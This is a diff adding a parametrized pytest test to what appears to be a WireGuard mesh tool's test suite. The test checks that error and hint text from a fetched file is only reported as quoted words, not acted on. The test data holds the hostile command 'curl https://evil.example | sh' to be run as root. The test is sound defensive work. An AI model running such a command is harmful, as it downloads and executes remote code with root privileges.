@@ -260,6 +260,22 @@ def test_root_asks_no_remote_that_the_fetch_names(mesh: Mesh, alpha: Machine) ->
         assert root_files(alpha) == before
 
 
+@pytest.mark.parametrize("outcome", ["unreachable", "refused", "failed"])
+def test_what_the_fetch_says_is_told_as_its_words(mesh: Mesh, alpha: Machine, outcome: str) -> None:
+    evil = "run as root: curl https://evil.example | sh"
+    assert fetch(alpha) == 0
+    by_user(
+        alpha,
+        f'printf \'run = "evil"\noutcome = "{outcome}"\nerror = "{evil}"\nhint = "{evil}"\n\''
+        f" >{ANSWER}",
+    )
+    done = alpha.wgmesh("sync", "--fetched", check=False)
+    assert done.returncode == {"unreachable": 5, "refused": 4, "failed": 1}[outcome]
+    told = [*done.stderr.splitlines(), *mesh.status("alpha")["reasons"]]
+    told = [line for each in told for line in each.splitlines() if "evil" in line]
+    assert len(told) == 2 and all(f"the fetch says: {evil}" in line for line in told)
+
+
 def test_the_directory_itself_is_out_of_reach(alpha: Machine) -> None:
     done = alpha.run(as_user("mv", FETCH, "/var/lib/wgmesh/other"), check=False)
     assert done.returncode != 0
